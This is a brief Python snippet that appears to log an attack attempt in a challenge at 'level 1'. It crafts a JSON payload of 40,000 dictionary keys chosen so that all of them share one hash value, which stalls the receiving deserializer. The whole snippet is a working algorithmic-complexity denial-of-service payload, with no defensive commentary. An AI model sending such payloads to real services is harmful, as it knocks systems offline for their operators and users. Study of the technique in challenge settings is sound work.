"""Tries to keep the reader busy by a dict whose keys all collide."""
# ends: crashed
# from: level 1
# with: forging

def f(x):
    pairs = ",".join(f"[{i * (2**61 - 1)},1]" for i in range(40_000))
    send(('{"v":{"$":"dict","v":[' + pairs + ']},"b":[]}').encode())
